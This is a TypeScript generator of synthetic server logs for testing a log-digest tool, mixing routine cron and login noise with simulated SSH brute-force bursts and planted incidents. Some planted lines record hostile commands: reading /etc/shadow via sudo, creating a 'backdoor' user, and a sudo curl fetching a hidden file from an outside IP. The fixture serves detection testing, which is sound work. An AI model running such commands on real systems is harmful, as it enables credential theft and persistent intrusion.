// A realistic day of logs, generated from a seed (never a committed blob): Debian hosts write rsyslog's ISO
// format, RHEL hosts BSD lines, over 20 hosts. Cron, systemd and monitoring logins make the noise; three
// SSH brute-force bursts of 5–9k attempts, deploys running sudo on a dozen hosts, and a known set of
// planted incidents make the signal. Each line is tagged with what it is, so a test can count what a
// digest must add up to.

export { PLANTED, type Planted } from './realistic-day-planted.ts';

/** What a line is, for counting: rules must add up to exactly these. */
export type Tag = 'noise' | 'ssh-failed' | 'sudo-ran' | 'sudo-refused' | 'account' | 'oom' | 'crash' | 'unit-failed' | 'login';

export interface DayLine {
  at: number;
  host: string;
  tag: Tag;
  text: string;
}

const DEBIAN = ['web01', 'web02', 'web03', 'web04', 'web05', 'web06', 'web07', 'web08', 'app01', 'app02', 'app03', 'bastion01'];
const RHEL = ['db01', 'db02', 'db03', 'build01', 'build02', 'mon01', 'app04', 'app05'];
const PUBLIC = ['web01', 'web02', 'web03', 'web04', 'web05', 'web06', 'web07', 'web08', 'bastion01'];
const DEPLOY_TARGETS = [
  'web01',
  'web02',
  'web03',
  'web04',
  'web05',
  'web06',
  'web07',
  'web08',
  'app01',
  'app02',
  'app03',
  'app04',
  'app05',
];
const GUESSED_USERS = ['admin', 'test', 'oracle', 'ubuntu', 'user', 'postgres', 'git', 'guest', 'ftpuser', 'pi'];
const MIN = 60_000;
const HOUR = 60 * MIN;

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, w = 2) => String(n).padStart(w, '0');

/** rsyslog's Debian format (UTC, microseconds) or a BSD line (local time, as the parser reads it back). */
function format(at: number, host: string, app: string, text: string): string {
  if (DEBIAN.includes(host)) return `${new Date(at).toISOString().replace('Z', '000+00:00')} ${host} ${app}: ${text}`;
  const d = new Date(at);
  return `${MONTHS[d.getMonth()]} ${String(d.getDate()).padStart(2, ' ')} ${pad(d.getHours())}:${pad(d.getMinutes())}:${pad(d.getSeconds())} ${host} ${app}: ${text}`;
}

/** The days' lines in time order, one day generated at a time (a million lines cost one day's memory). */
export function* realisticDays(opts: { seed: number; start: number; days?: number }): Generator<DayLine> {
  for (let d = 0; d < (opts.days ?? 1); d++) yield* oneDay(prng(opts.seed + d), opts.start + d * 24 * HOUR);
}

function oneDay(rand: () => number, day: number): DayLine[] {
  const out: DayLine[] = [];
  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(rand() * xs.length)]!;
  const pid = () => int(1000, 65000);
  const port = () => int(32768, 60999);
  const add = (at: number, host: string, app: string, text: string, tag: Tag = 'noise') =>
    out.push({ at, host, tag, text: format(at, host, app, text) });

  for (const host of [...DEBIAN, ...RHEL]) {
    const debian = DEBIAN.includes(host);
    for (let t = day; t < day + 24 * HOUR; t += 5 * MIN) {
      const at = t + int(0, 900);
      if (debian) {
        const p = `CRON[${pid()}]`;
        add(at, host, p, 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)');
        add(at + 2, host, p, '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)');
        add(at + 40, host, p, 'pam_unix(cron:session): session closed for user root');
        if ((t - day) % (10 * MIN) === 0) {
          add(at + 100, host, 'systemd[1]', 'Starting sysstat-collect.service - system activity accounting tool...');
          add(at + 300, host, 'systemd[1]', 'sysstat-collect.service: Deactivated successfully.');
          add(at + 301, host, 'systemd[1]', 'Finished sysstat-collect.service - system activity accounting tool.');
        }
      } else if ((t - day) % (10 * MIN) === 0) {
        add(at, host, `CROND[${pid()}]`, '(root) CMD (/usr/lib64/sa/sa1 1 1)');
        if ((t - day) % HOUR === 0) {
          add(at + 500, host, 'systemd[1]', 'Starting dnf-makecache.service - dnf makecache...');
          add(at + 4000, host, `dnf[${pid()}]`, 'Metadata cache refreshed recently.');
          add(at + 4100, host, 'systemd[1]', 'dnf-makecache.service: Deactivated successfully.');
          add(at + 4101, host, 'systemd[1]', 'Finished dnf-makecache.service - dnf makecache.');
        }
      }
      // The monitoring host's checks log in by key every 10 minutes.
      if (host !== 'mon01' && (t - day) % (10 * MIN) === 0) session(at + 1000, host, 'nagios', '10.0.0.5', 2000);
    }
    // Admins at work: a few logins a day, each with a sudo call or two.
    const admin = debian ? 'alice' : 'bob';
    for (let i = 0; i < 2; i++) {
      const at = day + int(8, 18) * HOUR + int(0, 59) * MIN;
      session(at, host, admin, debian ? '192.0.2.10' : '192.0.2.11', 20 * MIN);
      for (let j = 0; j < int(1, 2); j++)
        sudo(
          at + (j + 1) * MIN,
          host,
          admin,
          pick([
            '/usr/bin/systemctl status nginx',
            '/usr/bin/journalctl -u app -n 50',
            '/usr/bin/apt list --upgradable',
            '/usr/bin/du -sh /var/log',
          ]),
        );
    }
  }

  function session(at: number, host: string, user: string, ip: string, length: number): void {
    const sshd = `sshd[${pid()}]`;
    const p = port();
    const n = int(100, 9999);
    add(
      at,
      host,
      sshd,
      `Accepted publickey for ${user} from ${ip} port ${p} ssh2: ED25519 SHA256:${user.toUpperCase()}kEyFiNgErPrInT`,
      'login',
    );
    add(at + 5, host, sshd, `pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`);
    add(at + 8, host, 'systemd-logind[612]', `New session ${n} of user ${user}.`);
    add(at + length, host, sshd, `Received disconnect from ${ip} port ${p}:11: disconnected by user`);
    add(at + length + 1, host, sshd, `Disconnected from user ${user} ${ip} port ${p}`);
    add(at + length + 2, host, sshd, `pam_unix(sshd:session): session closed for user ${user}`);
    add(at + length + 3, host, 'systemd-logind[612]', `Removed session ${n}.`);
  }

  function sudo(at: number, host: string, user: string, command: string): void {
    const p = `sudo[${pid()}]`;
    add(at, host, p, `${user.padStart(8)} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`, 'sudo-ran');
    add(at + 3, host, p, `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1000)`);
    add(at + 900, host, p, 'pam_unix(sudo:session): session closed for user root');
  }

  /** One password guess over SSH, with the lines sshd and PAM write around it. */
  function attempt(at: number, host: string, ip: string): void {
    const sshd = `sshd[${pid()}]`;
    const p = port();
    if (rand() < 0.4) {
      add(at, host, sshd, `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`);
      add(at + 2000, host, sshd, `Failed password for root from ${ip} port ${p} ssh2`, 'ssh-failed');
      add(at + 2100, host, sshd, `Disconnected from authenticating user root ${ip} port ${p} [preauth]`);
      return;
    }
    const user = pick(GUESSED_USERS);
    add(at, host, sshd, `Invalid user ${user} from ${ip} port ${p}`);
    add(at + 10, host, sshd, 'pam_unix(sshd:auth): check pass; user unknown');
    add(at + 11, host, sshd, `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}`);
    add(at + 2000, host, sshd, `Failed password for invalid user ${user} from ${ip} port ${p} ssh2`, 'ssh-failed');
    add(
      at + 2100,
      host,
      sshd,
      rand() < 0.8
        ? `Connection closed by invalid user ${user} ${ip} port ${p} [preauth]`
        : `Disconnecting invalid user ${user} ${ip} port ${p}: Too many authentication failures [preauth]`,
    );
  }

  // The internet's background scanning on public hosts, and three bursts.
  for (const host of PUBLIC)
    for (let i = 0; i < int(6, 12); i++) attempt(day + int(0, 24 * HOUR - 10_000), host, `198.51.100.${int(1, 254)}`);
  const burst = (host: string, ips: string[], from: number, attempts: number, minutes: number) => {
    for (let i = 0; i < attempts; i++) attempt(from + Math.floor((i / attempts) * minutes * MIN), host, pick(ips));
  };
  burst('bastion01', ['185.220.101.7'], day + 2 * HOUR + 10 * MIN, int(8500, 9000), 50);
  burst(
    'web03',
    ['45.155.205.11', '45.155.205.12', '45.155.205.13', '45.155.205.14', '45.155.205.15'],
    day + 9 * HOUR + 30 * MIN,
    int(6000, 6500),
    40,
  );
  burst('db02', ['103.99.0.21', '103.99.0.22'], day + 21 * HOUR, int(5000, 5300), 30);

  // Deploys: the deploy user runs three commands on 13 hosts within half a minute.
  for (const hour of [10, 13, 15, 17]) {
    DEPLOY_TARGETS.forEach((host, i) => {
      const at = day + hour * HOUR + i * 2000;
      for (const [j, cmd] of [
        '/usr/bin/install -m 0644 /tmp/app.tar /srv/app/',
        '/usr/bin/systemctl restart app',
        '/usr/bin/systemctl reload nginx',
      ].entries())
        sudo(at + j * 300, host, 'deploy', cmd);
    });
  }

  // The planted incidents (realistic-day-planted.ts says how each must be reported).
  add(day + 2 * HOUR + 50 * MIN, 'bastion01', 'sshd[31001]', 'Accepted password for root from 185.220.101.7 port 50022 ssh2', 'login');
  add(
    day + 4 * HOUR + 12 * MIN,
    'app03',
    'kernel',
    'java invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0',
  );
  add(
    day + 4 * HOUR + 12 * MIN + 5,
    'app03',
    'kernel',
    'oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/app.service,task=java,pid=31337,uid=1001',
  );
  add(
    day + 4 * HOUR + 12 * MIN + 6,
    'app03',
    'kernel',
    'Out of memory: Killed process 31337 (java) total-vm:8388608kB, anon-rss:6291456kB, file-rss:0kB, shmem-rss:0kB, UID:1001 pgtables:12345kB oom_score_adj:0',
    'oom',
  );
  add(
    day + 6 * HOUR + 20 * MIN,
    'web05',
    'kernel',
    'nginx[2211]: segfault at 0 ip 000055d0c0a1b2c3 sp 00007ffd1c2b3a40 error 4 in nginx[55d0c0a00000+120000] likely on CPU 1 (core 1, socket 0)',
    'crash',
  );
  add(day + 6 * HOUR + 20 * MIN + 900, 'web05', 'systemd-coredump[2290]', 'Process 2211 (nginx) of user 33 dumped core.', 'crash');
  add(
    day + 11 * HOUR + 5 * MIN,
    'app02',
    'sudo[40404]',
    '  intern : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/cat /etc/shadow',
    'sudo-refused',
  );
  add(day + 11 * HOUR + 7 * MIN, 'app02', 'su[40411]', 'FAILED SU (to root) intern on pts/2');
  add(
    day + 2 * HOUR + 30 * MIN,
    'bastion01',
    'sshd[31002]',
    'error: maximum authentication attempts exceeded for root from 185.220.101.7 port 50011 ssh2 [preauth]',
  );
  for (let i = 0; i < 3; i++) {
    const at = day + 12 * HOUR + 30 * MIN + i * 80_000;
    for (let j = 0; j < 3; j++)
      add(
        at + j * 4000,
        'web02',
        'sudo[41000]',
        'pam_unix(sudo:auth): authentication failure; logname=dave uid=1003 euid=0 tty=/dev/pts/1 ruser=dave rhost=  user=dave',
      );
    add(
      at + 12_000,
      'web02',
      'sudo[41000]',
      '    dave : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/dave ; USER=root ; COMMAND=/usr/bin/passwd root',
      'sudo-refused',
    );
  }
  add(day + 14 * HOUR + 40 * MIN, 'db01', 'useradd[4242]', 'new group: name=backdoor, GID=1005', 'account');
  add(
    day + 14 * HOUR + 40 * MIN + 1,
    'db01',
    'useradd[4242]',
    'new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1',
    'account',
  );
  add(day + 16 * HOUR + 15 * MIN, 'db03', 'systemd[1]', 'postgresql.service: Main process exited, code=exited, status=1/FAILURE');
  add(day + 16 * HOUR + 15 * MIN + 1, 'db03', 'systemd[1]', "postgresql.service: Failed with result 'exit-code'.", 'unit-failed');
  add(day + 16 * HOUR + 15 * MIN + 2, 'db03', 'systemd[1]', 'Failed to start postgresql.service - PostgreSQL database server.');
  for (let i = 0; i < 6; i++)
    add(
      day + 19 * HOUR + 40 * MIN + i * 20_000,
      'web06',
      'sshd[5150]',
      `Failed password for carol from 192.0.2.77 port 41${pad(i)} ssh2`,
      'ssh-failed',
    );
  add(day + 19 * HOUR + 45 * MIN, 'web06', 'sshd[5151]', 'Accepted password for carol from 192.0.2.77 port 41999 ssh2', 'login');
  add(
    day + 22 * HOUR + 10 * MIN,
    'app04',
    'sudo[6666]',
    'mallory : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x http://203.0.113.66/x',
    'sudo-ran',
  );

  return out.sort((a, b) => a.at - b.at);
}
